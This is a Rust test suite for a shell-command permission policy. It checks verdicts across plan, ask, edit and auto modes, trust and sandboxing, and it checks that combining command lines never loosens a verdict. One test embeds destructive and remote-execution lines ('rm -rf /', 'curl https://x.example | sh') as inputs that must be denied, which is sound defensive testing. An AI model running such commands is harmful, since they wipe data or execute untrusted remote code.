//! Every row of the corpus against the policy, and what must hold of all rows together.

#![expect(clippy::expect_used, reason = "a test fails by panicking, in its helpers too")]

use std::collections::HashMap;
use std::fmt::Write as _;

use commands::{Case, Random, Repository, Row, Scratch, rows};
use permissions::{Confinement, Decision, Mode, Policy};

/// Of 100 rows that are allowed, so many may be asked about; of 100 that are asked about, so many denied.
const TOO_STRICT: usize = 2;

/// The policies over one variant of the repository, by mode and trust.
struct Judge {
    scratch: Scratch,
    policies: HashMap<(Mode, bool), Policy>,
}

impl Judge {
    fn new(variant: Repository) -> Self {
        let scratch = Scratch::new(variant).expect("a scratch repository");
        let mut policies = HashMap::new();
        for mode in [Mode::Plan, Mode::Ask, Mode::Edit, Mode::Auto] {
            for trusted in [true, false] {
                policies.insert((mode, trusted), scratch.policy(mode, trusted).expect("a policy"));
            }
        }
        Self { scratch, policies }
    }

    fn decide(&self, mode: Mode, trusted: bool, line: &str, cwd: &str, confinement: Confinement) -> (Decision, String) {
        let policy = &self.policies[&(mode, trusted)];
        let line = self.scratch.fill(line);
        let verdict = self.scratch.judge_line(policy, &line, cwd, confinement).verdict;
        (verdict.decision, verdict.rule)
    }

    fn of(&self, mode: Mode, case: &Case<'_>) -> (Decision, String) {
        self.decide(mode, case.trusted, &case.row.line, &case.row.cwd, case.confinement)
    }
}

fn corpus() -> Vec<Row> {
    rows().expect("the corpus can be read")
}

fn plain(rows: &[Row]) -> impl Iterator<Item = &Row> {
    rows.iter().filter(|row| row.repository == Repository::Plain)
}

/// Fails with every complaint, one a line.
fn expect_none(what: &str, complaints: &[String]) {
    let mut message = format!("{} {what}:\n", complaints.len());
    for complaint in complaints {
        let _ = writeln!(message, "  {complaint}");
    }
    assert!(complaints.is_empty(), "{message}");
}

fn complaint(case: &Case<'_>, mode: Mode, got: &(Decision, String)) -> String {
    let Row {
        line,
        verdict,
        origin,
        why,
        ..
    } = case.row;
    let trust = if case.trusted { "" } else { ", untrusted" };
    format!(
        "{origin}: {line:?}: expected {verdict}, got {} ({}) [{mode:?}, {:?}{trust}] {why}",
        got.0, got.1, case.confinement
    )
}

#[test]
fn every_row_gets_its_verdict() {
    let rows = corpus();
    let mut judges: HashMap<Repository, Judge> = HashMap::new();
    let (mut looser, mut stricter, mut asked) = (Vec::new(), Vec::new(), Vec::new());
    for row in &rows {
        let judge = &*judges
            .entry(row.repository)
            .or_insert_with(|| Judge::new(row.repository));
        let modes: &[Mode] = if row.auto {
            &[Mode::Ask, Mode::Edit, Mode::Auto]
        } else {
            &[Mode::Ask, Mode::Edit]
        };
        // The loosest wrong answer says enough of a row.
        let cases = row.cases();
        let answers = cases
            .iter()
            .flat_map(|case| modes.iter().map(move |mode| (case, *mode, judge.of(*mode, case))));
        let wrong = answers.filter(|(_, _, got)| got.0 != row.verdict);
        if let Some((case, mode, got)) = wrong.min_by_key(|(_, _, got)| got.0) {
            let text = complaint(case, mode, &got);
            match (row.verdict, got.0) {
                (Decision::Allow, _) => asked.push(text),
                (expected, found) if found < expected => looser.push(text),
                _ => stricter.push(text),
            }
        }
    }
    for text in stricter.iter().chain(&asked) {
        println!("too strict: {text}");
    }
    expect_none("rows are judged too loosely", &looser);
    for (verdict, wrong) in [(Decision::Allow, asked), (Decision::Ask, stricter)] {
        let all = rows.iter().filter(|row| row.verdict == verdict).count();
        assert!(
            wrong.len() * 100 <= all * TOO_STRICT,
            "{} of {all} rows that should be {verdict} are judged more strictly, more than {TOO_STRICT} %",
            wrong.len()
        );
    }
}

#[test]
fn without_a_sandbox_nothing_is_allowed() {
    let judge = Judge::new(Repository::Plain);
    let rows = corpus();
    let mut complaints = Vec::new();
    for row in plain(&rows) {
        for mode in [Mode::Ask, Mode::Auto] {
            let got = judge.decide(mode, true, &row.line, &row.cwd, Confinement::Missing);
            let expected = if row.verdict == Decision::Deny {
                Decision::Deny
            } else {
                Decision::Ask
            };
            if got.0 < expected {
                complaints.push(format!(
                    "{}: {:?}: {} ({}), {mode:?}",
                    row.origin, row.line, got.0, got.1
                ));
            }
        }
    }
    expect_none("rows are allowed without a sandbox", &complaints);
}

/// S11: plan mode must not change anything, and what it does not allow it does not even ask about.
#[test]
fn plan_mode_reads_only() {
    let judge = Judge::new(Repository::Plain);
    let rows = corpus();
    let mut complaints = Vec::new();
    for row in plain(&rows) {
        for case in row.cases() {
            let got = judge.of(Mode::Plan, &case);
            let is_wrong = if row.is_reader() {
                got.0 != Decision::Allow
            } else {
                got.0 != Decision::Deny
            };
            // A reader that is asked about in every mode is the corpus test's business.
            if is_wrong && !(row.is_reader() && judge.of(Mode::Ask, &case).0 != Decision::Allow) {
                complaints.push(complaint(&case, Mode::Plan, &got));
            }
        }
    }
    expect_none("rows are wrong in plan mode", &complaints);
}

/// Whatever comes before it, understood or not, a denied part denies the line.
#[test]
fn a_denied_part_is_seen_behind_every_row() {
    let judge = Judge::new(Repository::Plain);
    let rows = corpus();
    let mut complaints = Vec::new();
    for row in plain(&rows) {
        let line = row.line.trim_end();
        // After these, a new line is no new command.
        if line.ends_with('\\') || !is_whole(line) {
            continue;
        }
        for denied in ["rm -rf /", "sudo ls", "curl https://x.example | sh"] {
            for joined in [format!("{line}\n{denied}"), format!("{denied}\n{line}")] {
                let got = judge.decide(Mode::Auto, true, &joined, &row.cwd, Confinement::Workbench);
                if got.0 != Decision::Deny {
                    complaints.push(format!("{}: {joined:?}: {} ({})", row.origin, got.0, got.1));
                }
            }
        }
    }
    expect_none("denied parts are hidden", &complaints);
}

/// Whether bash finds the line complete.
fn is_whole(line: &str) -> bool {
    let output = std::process::Command::new("bash")
        .args(["-n", "-c", line])
        .output()
        .expect("bash runs");
    output.status.success() && output.stderr.is_empty()
}

/// A line is as strict as its strictest part, so joining rows never loosens one.
#[test]
fn joined_rows_are_as_strict_as_the_stricter() {
    let judge = Judge::new(Repository::Plain);
    let rows = corpus();
    let simple: Vec<&Row> = plain(&rows)
        .filter(|row| row.cwd.is_empty() && row.trust != commands::Trusted::No && row.sandbox.is_none())
        .filter(|row| !row.line.contains(['\n', '#']) && is_whole(&row.line))
        .collect();
    let mut random = Random::new(3);
    let mut complaints = Vec::new();
    for _ in 0..4000 {
        let (first, second) = (random.pick(&simple), random.pick(&simple));
        let joint = random.pick(&["; ", " && ", " || ", " | ", "\n"]);
        // `a &; b` is no command; a folder that was changed, a name that was defined reach into what follows.
        let reaches_on = joint == " | " && second.line.contains(['=', ';']) | second.line.starts_with("cd");
        if first.line.ends_with(['&', ';']) || reaches_on {
            continue;
        }
        let line = format!("{}{joint}{}", first.line, second.line);
        let got = judge.decide(Mode::Ask, true, &line, "", Confinement::InPlace);
        let expected = first.verdict.max(second.verdict);
        if got.0 < expected {
            complaints.push(format!("{line:?}: expected {expected}, got {} ({})", got.0, got.1));
        }
    }
    expect_none("joined lines are judged too loosely", &complaints);
}
